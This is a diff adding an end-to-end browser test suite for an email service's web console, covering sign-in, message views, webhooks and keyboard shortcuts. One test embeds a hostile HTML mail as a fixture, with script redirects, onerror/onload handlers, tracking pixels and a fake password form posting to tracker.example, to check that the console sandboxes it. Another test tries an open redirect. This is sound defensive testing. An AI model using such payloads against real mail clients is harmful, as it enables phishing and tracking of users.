@@ -1,0 +1,420 @@
+import { execFile } from 'node:child_process'
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { promisify } from 'node:util'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { hasBrowser, type OpenOptions, openBrowser, openConsole, type WatchedPage } from '../support/browser.js'
+import { builtConsole } from '../support/built-console.js'
+import { aSend, eventually, startApp, type TestApp } from '../support/start-app.js'
+import { startWebhookReceiver } from '../support/webhook-receiver.js'
+
+const run = promisify(execFile)
+
+/* The console in a real browser, against the real service. */
+
+let app: TestApp
+let browser: Browser
+const opened: WatchedPage[] = []
+
+describe.skipIf(!hasBrowser)('the console', () => {
+  beforeAll(async () => {
+    app = await startApp({}, { consoleFolder: await builtConsole() })
+    browser = await openBrowser()
+  })
+  afterEach(() => Promise.all(opened.splice(0).map(({ context }) => context.close())))
+  afterAll(async () => {
+    await browser?.close()
+    await app?.close()
+  })
+
+  async function open(path: string, options: OpenOptions = {}): Promise<WatchedPage> {
+    const watched = await openConsole(browser, app, { path, ...options })
+    opened.push(watched)
+    return watched
+  }
+
+  describe('signing in', () => {
+    test('asks for a key, names what is wrong with it, and returns to where the reader wanted to go', async () => {
+      const { page, expectClean } = await open('/messages?status=bounced', { key: null })
+      await page.waitForURL('**/sign-in?next=*')
+      await expectClean()
+      await page.getByLabel('API key').fill(`sk_live_${'x'.repeat(43)}`)
+      await page.getByRole('button', { name: 'Sign in' }).click()
+      await page.getByText('unknown, revoked or expired').waitFor()
+      await page.getByLabel('API key').fill(app.adminKey)
+      await page.getByRole('button', { name: 'Sign in' }).click()
+      await page.waitForURL('**/messages?status=bounced')
+      await page.getByRole('heading', { name: 'Messages' }).waitFor()
+      expect(
+        await page.evaluate<string>('JSON.stringify([localStorage, sessionStorage, document.cookie])'),
+      ).not.toContain('sk_live')
+
+      await page.getByRole('button', { name: 'Sign out' }).click()
+      await page.waitForURL('**/sign-in')
+      await page.goto(`${app.url}/messages`)
+      await page.waitForURL('**/sign-in?next=*')
+    })
+
+    test('leads nowhere else, whatever the address says', async () => {
+      const { page } = await open('/sign-in?next=https://evil.example/', { key: null })
+      await page.getByLabel('API key').fill(app.adminKey)
+      await page.getByRole('button', { name: 'Sign in' }).click()
+      await page.getByRole('heading', { name: 'Home' }).waitFor()
+      expect(page.url()).toBe(`${app.url}/`)
+    })
+
+    test('a link signs in once, and its token is in no address afterwards', async () => {
+      const link = `/sign-in#${await app.app.services.signInLinks.create(app.adminKey)}`
+      const { page } = await open(link, { key: null })
+      await page.getByRole('heading', { name: 'Home' }).waitFor()
+      expect(page.url()).toBe(`${app.url}/`)
+      const second = await open(link, { key: null })
+      await second.page.getByText('already used or expired').waitFor()
+      expect(second.page.url()).toBe(`${app.url}/sign-in`)
+    })
+  })
+
+  describe('home', () => {
+    test('says what needs attention, and shows what happens while it happens', async () => {
+      await app.call('POST', '/v1/domains', { body: { domain: 'unfinished.example.com' } })
+      const { page, expectClean } = await open('/')
+      await page.getByText('The domain unfinished.example.com is not verified').waitFor()
+      await expectClean()
+      const subject = 'Seen at home'
+      const body = aSend({ payload: { subject, body_text: 't' } })
+      await app.call('POST', '/v1/send', { key: await app.testKey(), body })
+      const row = page.locator('.feed a.row', { hasText: subject })
+      await row.filter({ hasText: 'delivered' }).first().waitFor()
+      await row.first().click()
+      await page.getByRole('heading', { name: subject }).waitFor()
+    })
+  })
+
+  describe('messages', () => {
+    test('are found by words and filters, which are in the address', async () => {
+      const key = await app.testKey()
+      const to = (email: string, subject: string) =>
+        aSend({ destination: { email }, payload: { subject, body_text: 't' } })
+      await app.call('POST', '/v1/send', { key, body: to('bounced@find.example', 'Quarterly zebra') })
+      await app.call('POST', '/v1/send', { key, body: to('delivered@find.example', 'Quarterly heron') })
+      const { page, expectClean } = await open('/messages')
+      const rows = page.locator('.messages a.row')
+      await page.getByLabel(/^Search/).fill('quarterly')
+      await page.waitForURL('**/messages?search=quarterly')
+      await eventually('both are found', async () => (await rows.count()) === 2)
+      await page.getByLabel('Status').selectOption('bounced')
+      await page.waitForURL('**/messages?search=quarterly&status=bounced')
+      await rows.filter({ hasText: 'bounced' }).waitFor()
+      expect(await rows.allTextContents()).toEqual([expect.stringContaining('Quarterly zebra')])
+      await expectClean()
+
+      // The address alone brings the same view about.
+      const { page: shared } = await open('/messages?search=quarterly&status=bounced')
+      await shared.locator('.messages a.row', { hasText: 'zebra' }).waitFor()
+      expect(await shared.getByLabel('Status').inputValue()).toBe('bounced')
+
+      await page.getByLabel(/^Search/).fill('nothing-like-this')
+      await page.getByRole('button', { name: 'Show all messages' }).click()
+      await page.waitForURL('**/messages')
+      await eventually('all are shown', async () => (await rows.count()) >= 2)
+    })
+
+    test('are walked by keyboard', async () => {
+      const key = await app.testKey()
+      for (const _ of [1, 2]) await app.call('POST', '/v1/send', { key, body: aSend() })
+      const { page } = await open('/')
+      await page.getByRole('heading', { name: 'Home' }).waitFor()
+      await page.keyboard.press('g')
+      await page.keyboard.press('m')
+      await page.waitForURL('**/messages')
+      await page.locator('.messages a.row').nth(1).waitFor()
+      await page.keyboard.press('j')
+      await page.keyboard.press('j')
+      const second = await page.locator('.messages a.row').nth(1).getAttribute('href')
+      await page.keyboard.press('Enter')
+      await page.waitForURL(`**${second}`)
+    })
+  })
+
+  test('a mail sent in one window appears in another, and its timeline grows to delivered in both', async () => {
+    const key = await app.testKey()
+    const [sender, watcher] = [await open('/send', { key }), await open('/messages', { key })]
+    await watcher.page.getByRole('heading', { name: 'Messages' }).waitFor()
+    await sender.page.getByLabel('To', { exact: true }).fill('delivered@live.example')
+    await sender.page.getByLabel('Subject').fill('Seen by both')
+    await sender.expectClean()
+    await sender.page.getByRole('button', { name: 'Send', exact: true }).click()
+    await sender.page.waitForURL('**/messages/msg_*')
+    const row = watcher.page.locator('.messages a.row', { hasText: 'Seen by both' })
+    await row.filter({ hasText: 'delivered' }).waitFor()
+    await row.click()
+    for (const { page, expectClean } of [sender, watcher]) {
+      await page.locator('.timeline > li', { hasText: 'delivered' }).waitFor()
+      await page.locator('.page-head .badge', { hasText: 'delivered' }).waitFor()
+      await expectClean()
+    }
+  })
+
+  describe('a message', () => {
+    test('is shown with its mail, its headers and what webhooks answered', async () => {
+      const receiver = await startWebhookReceiver()
+      receiver.next.push({ status: 500, body: 'out of order' })
+      try {
+        const webhook = await app.call('POST', '/v1/webhooks', { body: { endpoint_url: receiver.url } })
+        const payload = {
+          subject: 'With everything',
+          body_html: '<p>Formatted</p>',
+          body_text: 'Plain words',
+          headers: { 'X-Order': '4711' },
+        }
+        const sent = await app.call('POST', '/v1/send', { key: await app.testKey(), body: aSend({ payload }) })
+        await eventually('the endpoint was asked', () => receiver.hits.length > 0)
+        const { page, expectClean } = await open(`/messages/${sent.body.id}`)
+        await page.frameLocator('iframe').getByText('Formatted').waitFor()
+        await expectClean()
+        await page.getByRole('tab', { name: 'Text' }).click()
+        await page.getByText('Plain words').waitFor()
+        await page.getByRole('tab', { name: 'HTML source' }).click()
+        await page.getByText('<p>Formatted</p>').waitFor()
+        await page.getByRole('tab', { name: 'Headers' }).click()
+        await page.getByText('4711').waitFor()
+        await page.getByRole('tab', { name: 'Webhooks' }).click()
+        await page.waitForURL('**?view=webhooks')
+        await page.getByText('out of order').waitFor()
+        await page.locator('summary', { hasText: 'Payload' }).first().click()
+        await page.getByText(`"message_id": "${sent.body.id}"`).first().waitFor()
+        await expectClean()
+        const hits = receiver.hits.length
+        await page.getByRole('button', { name: 'Deliver again' }).first().click()
+        await eventually('it is delivered again', () => receiver.hits.length > hits)
+        await app.call('DELETE', `/v1/webhooks/${webhook.body.id}`)
+      } finally {
+        await receiver.close()
+      }
+    })
+
+    test('that is scheduled is canceled after a question', async () => {
+      const { id } = await scheduled()
+      const { page, expectClean } = await open(`/messages/${id}`)
+      await page.getByRole('button', { name: 'Cancel' }).click()
+      await page.getByRole('alertdialog').waitFor()
+      await expectClean()
+      await page.getByRole('button', { name: 'Keep it' }).click()
+      await page.getByRole('button', { name: 'Cancel' }).click()
+      await page.getByRole('button', { name: 'Cancel the message' }).click()
+      await page.getByText('Canceled. It will not be sent.').waitFor()
+      await page.locator('.page-head .badge', { hasText: 'canceled' }).waitFor()
+      expect((await app.call('GET', `/v1/messages/${id}`)).body.status).toBe('canceled')
+    })
+
+    test('shows a refused write as refused: the status goes back', async () => {
+      const { id } = await scheduled()
+      const { page } = await open(`/messages/${id}`, { key: await app.key('read') })
+      await page.getByRole('button', { name: 'Cancel' }).click()
+      await page.getByRole('button', { name: 'Cancel the message' }).click()
+      await page.getByText(/^Not canceled: /).waitFor()
+      await page.locator('.page-head .badge', { hasText: 'scheduled' }).waitFor()
+      expect((await app.call('GET', `/v1/messages/${id}`)).body.status).toBe('scheduled')
+    })
+
+    test('is sent again as a new one', async () => {
+      const key = await app.testKey()
+      const sent = await app.call('POST', '/v1/send', { key, body: aSend() })
+      const { page } = await open(`/messages/${sent.body.id}`, { key })
+      await page.getByRole('button', { name: 'Send again' }).click()
+      await page.waitForURL((url) => /\/msg_/.test(url.pathname) && !url.pathname.endsWith(sent.body.id))
+      await page.locator('.timeline > li', { hasText: 'delivered' }).waitFor()
+    })
+
+    test('that does not exist is a page with a way on', async () => {
+      const { page, expectClean } = await open('/messages/msg_01kajqw1y3h7g5d2s9p8n6m4q0')
+      await page.getByRole('heading', { name: 'There is no such message' }).waitFor()
+      await expectClean()
+    })
+  })
+
+  describe('a hostile mail', () => {
+    const HOSTILE = `<!doctype html><html><head>
+      <link rel="preconnect" href="http://tracker.example"><link rel="stylesheet" href="http://tracker.example/s.css">
+      <link rel="prefetch" href="http://tracker.example/prefetch"><link rel="dns-prefetch" href="//tracker.example">
+      <meta http-equiv="refresh" content="0; url=http://tracker.example/moved">
+      <script>parent.document.title = 'taken'; top.location = 'http://tracker.example/top'</script>
+      <style>@import url(http://tracker.example/i.css); body { background: url(http://tracker.example/b.png) }</style>
+      </head><body onload="top.location='http://tracker.example/onload'">
+      <img src="http://tracker.example/pixel.gif"><img src=x onerror="top.document.title='taken'">
+      <iframe src="http://tracker.example/frame"></iframe><object data="http://tracker.example/object"></object>
+      <svg onload="alert(1)"></svg><video autoplay src="http://tracker.example/v.mp4"></video>
+      <form action="http://tracker.example/form" method="post"><input name="password"><button>Sign in</button></form>
+      <a href="http://tracker.example/link" target="_top">A link</a></body></html>`
+
+    test('is shown harmless, and connects to no other host until told', async () => {
+      const tracker = await startTracker()
+      const exposed = await openBrowser({ 'tracker.example': tracker.port })
+      try {
+        const payload = { subject: 'Hostile', body_html: HOSTILE }
+        const sent = await app.call('POST', '/v1/send', { key: await app.testKey(), body: aSend({ payload }) })
+        const address = `/messages/${sent.body.id}`
+        const { page, context } = await openConsole(exposed, app, { path: address })
+        const frame = page.frameLocator('iframe')
+        await frame.getByText('A link').waitFor()
+        await frame.getByRole('button', { name: 'Sign in' }).click()
+        await page.locator('.timeline > li', { hasText: 'delivered' }).waitFor()
+        expect([tracker.connections(), tracker.paths]).toEqual([0, []])
+        expect([page.url(), await page.title()]).toEqual([app.url + address, 'Hostile · Postline'])
+
+        await page.getByRole('button', { name: 'Show remote images' }).click()
+        await eventually('the pictures are loaded', () => tracker.paths.length >= 2)
+        await frame.getByText('A link').waitFor()
+        expect(tracker.paths.toSorted()).toEqual(['/b.png', '/pixel.gif'])
+
+        // A link opens a tab of its own, which cannot reach the console.
+        const [tab] = await Promise.all([context.waitForEvent('page'), frame.getByText('A link').click()])
+        await eventually('it is followed', () => tracker.paths.includes('/link'))
+        expect(await tab.evaluate<boolean>('window.opener === null')).toBe(true)
+        expect(page.url()).toBe(app.url + address)
+      } finally {
+        await exposed.close()
+        await tracker.close()
+      }
+    })
+  })
+
+  describe('sending a test', () => {
+    test('to somebody who has not agreed says why not', async () => {
+      const { page, expectClean } = await open('/send')
+      expect(await page.getByLabel('To', { exact: true }).inputValue()).toBe(app.ownerEmail)
+      await page.getByLabel('To', { exact: true }).fill('stranger@example.com')
+      await page.getByRole('button', { name: 'Send', exact: true }).click()
+      await page.getByRole('alert').getByText('Without a verified domain').waitFor()
+      await expectClean()
+    })
+
+    test('the snippets beside it send the same', async () => {
+      const key = await app.testKey()
+      const { page } = await open('/send', { key })
+      await page.getByLabel('To', { exact: true }).fill('delivered@snippet.example')
+      await page.getByLabel('Subject').fill("It's a snippet")
+      const snippet = async (name: string) =>
+        (await page.getByRole('figure', { name }).locator('pre').textContent()) ?? ''
+      const { stdout } = await run('bash', ['-c', await snippet('curl')], {
+        env: { ...process.env, POSTLINE_KEY: key },
+      })
+      const { id } = JSON.parse(stdout)
+      expect((await app.call('GET', `/v1/messages/${id}`)).body).toMatchObject({ subject: "It's a snippet" })
+
+      await page.getByRole('tab', { name: 'GraphQL' }).click()
+      const [query, variables] = (await snippet('GraphQL')).split('# Variables')
+      const body = { query, variables: JSON.parse(variables!) }
+      const answer = await app.call('POST', '/graphql', { key, body })
+      expect(answer.body).toEqual({ data: { sendMessage: expect.objectContaining({ id }) } })
+      await page.getByRole('tab', { name: 'tRPC' }).click()
+      expect(await snippet('tRPC')).toContain('postline.messages.send.mutate({')
+      await page.getByRole('tab', { name: 'TypeScript' }).click()
+      expect(await snippet('TypeScript')).toContain("postline.POST('/v1/send', {")
+    })
+  })
+
+  describe('by keyboard', () => {
+    test('the palette goes to pages, ids and searches', async () => {
+      const { page, expectClean } = await open('/')
+      await page.getByRole('heading', { name: 'Home' }).waitFor()
+      await page.keyboard.press('Control+k')
+      const field = page.getByRole('combobox')
+      await field.waitFor()
+      await expectClean()
+      await field.fill('send')
+      await page.keyboard.press('Enter')
+      await page.waitForURL('**/send')
+      await page.keyboard.press('Control+k')
+      await field.fill('zebra crossing')
+      await page.keyboard.press('Enter')
+      await page.waitForURL('**/messages?search=zebra%20crossing')
+      await page.keyboard.press('Control+k')
+      await field.fill('msg_01kajqw1y3h7g5d2s9p8n6m4q0')
+      await page.keyboard.press('Enter')
+      await page.waitForURL('**/messages/msg_01kajqw1y3h7g5d2s9p8n6m4q0')
+    })
+
+    test('? lists the shortcuts, and Esc closes the list', async () => {
+      const { page, expectClean } = await open('/')
+      await page.getByRole('heading', { name: 'Home' }).waitFor()
+      await page.keyboard.press('?')
+      await page.getByRole('dialog').getByText('Command palette').waitFor()
+      await expectClean()
+      await page.keyboard.press('Escape')
+      await page.getByRole('dialog').waitFor({ state: 'detached' })
+    })
+  })
+
+  test.each(['light', 'dark'] as const)('every page fits a phone and is readable in %s colors', async (colorScheme) => {
+    const key = await app.testKey()
+    const sent = await app.call('POST', '/v1/send', {
+      key,
+      body: aSend({ destination: { email: 'bounced@x.example' } }),
+    })
+    const { page, expectClean } = await open('/', { colorScheme, viewport: { width: 375, height: 700 } })
+    for (const [path, text] of [
+      ['/', 'This month'],
+      ['/messages', 'bounced@x.example'],
+      [`/messages/${sent.body.id}`, 'Timeline'],
+      ['/send', 'The mail'],
+    ] as const) {
+      await page.goto(app.url + path)
+      await page.getByText(text).first().waitFor()
+      await expectClean()
+      expect(await widthOf(page), path).toBeLessThanOrEqual(375)
+    }
+  })
+
+  test('after a lost connection, the page says so and then catches up', async () => {
+    const key = await app.testKey()
+    const { page, context } = await open('/messages', { key })
+    await page.locator('.messages a.row').first().waitFor()
+    const cut = new Set<string>(['**/graphql'])
+    for (const path of cut) await context.route(path, (route) => route.abort())
+    // A hidden and a shown tab: the stream is opened again, and cannot be.
+    await page.evaluate(
+      "Object.defineProperty(document, 'hidden', { value: true, configurable: true }); document.dispatchEvent(new Event('visibilitychange'))",
+    )
+    await page.evaluate(
+      "Object.defineProperty(document, 'hidden', { value: false, configurable: true }); document.dispatchEvent(new Event('visibilitychange'))",
+    )
+    await page.getByText('The connection is lost').waitFor()
+    const body = aSend({ payload: { subject: 'Sent meanwhile', body_text: 't' } })
+    await app.call('POST', '/v1/send', { key, body })
+    for (const path of cut) await context.unroute(path)
+    await page.locator('.messages a.row', { hasText: 'Sent meanwhile' }).waitFor()
+    await page.getByText('The connection is lost').waitFor({ state: 'detached' })
+  })
+})
+
+/** A server of somebody else, which tells who came. */
+async function startTracker() {
+  const paths: string[] = []
+  let connections = 0
+  const server = createServer((request, response) => {
+    paths.push(request.url!)
+    response.writeHead(200, { 'content-type': 'text/html' }).end()
+  })
+  server.on('connection', () => {
+    connections += 1
+  })
+  server.listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  const { port } = server.address() as AddressInfo
+  const close = () => {
+    server.closeAllConnections()
+    server.close()
+  }
+  return { port, paths, connections: () => connections, close }
+}
+
+/** A message that waits for tomorrow. */
+async function scheduled(): Promise<{ id: string }> {
+  const scheduled_at = new Date(Date.now() + 24 * 3_600_000).toISOString()
+  return (await app.call('POST', '/v1/send', { key: await app.testKey(), body: aSend({ scheduled_at }) })).body
+}
+
+const widthOf = (page: Page) => page.evaluate<number>('document.documentElement.scrollWidth')
